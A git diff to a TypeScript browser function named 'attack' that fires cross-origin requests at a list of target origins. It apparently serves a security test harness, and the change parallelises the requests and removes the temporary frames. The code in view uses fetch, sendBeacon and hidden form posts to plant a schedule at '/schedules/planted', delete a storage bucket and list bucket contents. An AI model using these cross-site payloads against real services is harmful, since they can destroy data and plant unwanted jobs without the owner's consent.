@@ -149,7 +149,8 @@ export const attack = async (prey: Prey): Promise<readonly Readable[]> => {
       for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
       document.body.append(made);
     }, origin);
-  const form = (origin: string, path: string, body: string): void => {
+  /** Its frame leaves with its answer: hundreds of them would slow the page down. */
+  const form = async (origin: string, path: string, body: string): Promise<void> => {
     const frame = document.createElement('iframe');
     frame.name = `frame-${Math.random()}`;
     const made = document.createElement('form');
@@ -165,7 +166,12 @@ export const attack = async (prey: Prey): Promise<readonly Readable[]> => {
     field.value = '"}';
     made.append(field);
     document.body.append(frame, made);
-    made.submit();
+    await settled((done) => {
+      frame.addEventListener('load', () => done());
+      made.submit();
+    }, origin);
+    frame.remove();
+    made.remove();
   };
   const rest = (origin: string): Promise<unknown>[] => [
     settled((done) => {
@@ -186,16 +192,18 @@ export const attack = async (prey: Prey): Promise<readonly Readable[]> => {
     element(origin, 'iframe', { src: `${origin}/${prey.bucket}${query}&list-type=2` }),
     element(origin, 'link', { rel: 'stylesheet', href: `${origin}/${query}` }),
   ];
-  for (const origin of prey.origins) {
+  const attackOne = async (origin: string): Promise<void> => {
     await Promise.all(calls.flatMap((call) => [ask(origin, call, 'cors'), ask(origin, call, 'no-cors')]));
-    for (const [path, body] of invocations) {
-      navigator.sendBeacon(`${origin}${path}${query}`, body);
-      form(origin, `${path}${query}`, body);
-    }
-    form(origin, `/schedules/planted${query}`, schedule);
-    form(origin, `/${prey.bucket}${query}&delete`, '{}');
-    await Promise.all(rest(origin));
-  }
+    for (const [path, body] of invocations) navigator.sendBeacon(`${origin}${path}${query}`, body);
+    await Promise.all([
+      ...invocations.map(([path, body]) => form(origin, `${path}${query}`, body)),
+      form(origin, `/schedules/planted${query}`, schedule),
+      form(origin, `/${prey.bucket}${query}&delete`, '{}'),
+      ...rest(origin),
+    ]);
+  };
+  // Most of the time is waiting for what never answers.
+  await Promise.all(prey.origins.map(attackOne));
   await new Promise((resolve) => setTimeout(resolve, 500));
   return seen;
 };
